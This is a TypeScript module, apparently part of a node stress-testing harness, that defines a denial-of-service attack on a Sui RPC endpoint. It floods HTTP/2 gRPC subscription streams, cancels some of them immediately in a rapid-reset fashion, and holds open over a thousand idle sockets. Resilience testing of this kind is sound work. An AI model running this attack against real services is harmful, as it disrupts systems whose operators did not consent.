import { once } from 'node:events'
import { type ClientHttp2Session, connect, constants } from 'node:http2'
import { connect as connectSocket } from 'node:net'
import type { Attack, AttackContext } from '../attack.ts'
import { ended, repeat } from '../support/repeat.ts'
import { openSocket } from '../support/socket.ts'

const STREAMS = 100
/** a message of no bytes */
const EMPTY = Buffer.alloc(5)

export const attack: Attack = {
  about:
    'follows the embedded Sui on as many streams as it gets, resets others at once, and holds silent connections',
  refused: ['localnet.address'],
  async run(context) {
    const { signal, target } = context
    const sessions: ClientHttp2Session[] = []
    try {
      const counts = await repeat({ signal, parallel: 4, most: 40 }, async i => {
        const session = await openSession(context)
        sessions.push(session)
        for (let j = 0; j < STREAMS; j++) {
          const stream = session.request({
            ':method': 'POST',
            ':path': '/sui.rpc.v2.SubscriptionService/SubscribeTransactions',
            'content-type': 'application/grpc',
            te: 'trailers',
          })
          stream.on('error', () => undefined).resume()
          stream.end(EMPTY)
          if (i % 4 === 3) stream.close(constants.NGHTTP2_CANCEL)
        }
      })
      const silent = await repeat({ signal, parallel: 16, most: 1_100 }, () =>
        openSocket(target.rpcUrl, context),
      )
      await ended(signal)
      return { ...counts, silent: silent.tried! }
    } finally {
      for (const session of sessions) session.destroy()
    }
  },
}

async function openSession({ target, from, signal }: AttackContext): Promise<ClientHttp2Session> {
  const { hostname: host, port } = new URL(target.rpcUrl)
  const session = connect(target.rpcUrl, {
    createConnection: () => connectSocket({ host, port: Number(port), localAddress: from }),
  })
  session.on('error', () => undefined)
  await once(session, 'connect', { signal })
  return session
}
